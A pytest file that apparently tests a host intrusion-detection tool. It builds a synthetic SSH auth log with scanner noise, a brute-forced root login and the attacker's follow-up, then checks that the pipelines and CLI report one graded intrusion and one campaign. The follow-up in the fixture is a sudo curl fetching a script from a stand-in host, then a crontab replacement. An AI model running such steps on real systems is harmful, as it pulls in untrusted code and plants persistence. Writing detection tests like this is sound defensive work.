"""Incidents on the real pipelines: `ingest` and `watch` of one compromised host's auth log give
the same graded incidents in the store: one L1 intrusion with its chain, one background campaign."""

from __future__ import annotations

import json
from pathlib import Path

from watching import watch_until

from hostwarden.core.config import load_config
from hostwarden.core.records import Grade
from hostwarden.incidents.graph import timeline
from hostwarden.incidents.model import Incident
from hostwarden.store.eventstore import EventStore

ATTACKER = "198.51.100.23"


def _log(path: Path) -> Path:
    lines = []
    pid = 2000
    for s in range(200):  # background scanners: six failures each, a minute apart from each other
        minute, ip = s // 4, f"203.0.{s // 100}.{s % 100 + 1}"
        for k in range(6):
            pid += 1
            lines.append(f"Nov  1 0{minute // 60 + 6}:{minute % 60:02d}:{k * 5 + (s % 4):02d} web-01 sshd[{pid}]: "
                         f"Failed password for root from {ip} port {40000 + k} ssh2")
    for k in range(10):  # the attacker: ten guesses, then in
        lines.append(f"Nov  1 09:00:{k * 3:02d} web-01 sshd[5120]: Failed password for root from {ATTACKER} "
                     f"port 60001 ssh2")
    lines += [f"Nov  1 09:01:10 web-01 sshd[5131]: Accepted password for root from {ATTACKER} port 60002 ssh2",
              "Nov  1 09:02:02 web-01 sudo:     root : TTY=pts/1 ; PWD=/root ; USER=root ; "
              "COMMAND=/usr/bin/curl -s http://203.0.113.9/x.sh",
              "Nov  1 09:03:05 web-01 crontab[5275]: (root) REPLACE (root)"]
    path.write_text("\n".join(lines) + "\n")
    return path


def _incidents(data: Path) -> list[Incident]:
    with EventStore(data, read_only=True) as store:
        rows = store.query_arrow('SELECT * FROM events WHERE "event.kind" = \'incident\'').to_pylist()
    return [Incident.from_ecs(r) for r in rows]


def _check(incidents: list[Incident]) -> None:
    l1 = [i for i in incidents if i.grade is Grade.L1]
    assert len(l1) == 1, [i.title() for i in incidents]
    inc = l1[0]
    assert inc.kind == "intrusion" and inc.priority == "P0" and ATTACKER in inc.sources
    steps = timeline(inc)
    kinds = [(s["kind"], s.get("grade"), s["what"]) for s in steps]
    login = next(i for i, s in enumerate(kinds) if s[1] == "L1")
    assert any(s[0] == "alert" and "brute force" in s[2].lower() for s in kinds[:login]), kinds  # the BF first
    assert [s[2] for s in kinds[login:] if s[0] == "activity"] == ["sudo_command", "crontab_replaced"], kinds
    assert [s["time"] for s in steps] == sorted(s["time"] for s in steps)
    campaigns = [i for i in incidents if i.kind == "campaign" and "SSH" in (i.campaign or "")]
    assert len(campaigns) == 1 and len(campaigns[0].sources) >= 200  # 200 scanners (and the attacker)
    assert len(incidents) <= 4  # not hundreds of rows


def test_ingest_yields_the_l1_incident_and_one_campaign(tmp_path: Path) -> None:
    from hostwarden.pipelines.ingest_job import run_ingest

    log = _log(tmp_path / "auth.log")
    cfg = load_config(None, data_dir=tmp_path / "data")
    result = run_ingest(cfg, [str(log)])
    assert len(result.alerts) > 200
    _check(_incidents(cfg.data_dir))
    again = run_ingest(cfg, [str(log)])  # re-ingest: nothing new, incidents unchanged
    assert again.alerts == [] and len(_incidents(cfg.data_dir)) == len(_incidents(cfg.data_dir))


def test_watch_updates_incidents_as_alerts_arrive(tmp_path: Path) -> None:
    log = _log(tmp_path / "auth.log")
    cfg = load_config(None, data_dir=tmp_path / "data")
    printed_out = watch_until(cfg, [log], log.read_text().count("\n"))
    _check(_incidents(cfg.data_dir))
    printed = [ln for ln in printed_out.splitlines() if ln.startswith("INCIDENT L1")]
    assert len(printed) == 1 and ATTACKER in printed[0]  # shown once, the moment it became L1
    json.dumps([i.to_ecs() for i in _incidents(cfg.data_dir)], default=str)  # rows read back whole


def test_incidents_cli_lists_and_shows_them_as_people_read_them(tmp_path: Path) -> None:
    """`incidents list` and `show` after an ingest: deadlines to the minute in UTC, the chain to
    the second in order, and the exports from the same stored row."""
    import re

    from typer.testing import CliRunner

    from hostwarden.cli import app
    from hostwarden.pipelines.ingest_job import run_ingest

    cfg = load_config(None, data_dir=tmp_path / "data")
    run_ingest(cfg, [str(_log(tmp_path / "auth.log"))])
    l1 = next(i for i in _incidents(cfg.data_dir) if i.grade is Grade.L1)
    runner = CliRunner()
    listed = runner.invoke(app, ["incidents", "list", "--data-dir", str(cfg.data_dir)], env={"COLUMNS": "200"})
    assert listed.exit_code == 0, listed.output
    assert l1.id in listed.output and re.search(r"\d{4}-\d\d-\d\d \d\d:\d\d UTC", listed.output)
    assert "+00:00" not in listed.output  # no raw ISO stamps with microseconds
    shown = runner.invoke(app, ["incidents", "show", l1.id, "--data-dir", str(cfg.data_dir)], env={"COLUMNS": "200"})
    assert shown.exit_code == 0, shown.output
    times = re.findall(r"2026-11-01 (\d\d:\d\d:\d\d) UTC", shown.output)
    assert "09:01:10" in times and times == sorted(times)  # the login, and the chain in time order
    for fmt, mark in (("json", '"nodes"'), ("dot", "digraph"), ("svg", "<svg")):
        out = runner.invoke(app, ["incidents", "show", l1.id, "--format", fmt, "--data-dir", str(cfg.data_dir)])
        assert out.exit_code == 0 and mark in out.output, (fmt, out.output[:200])
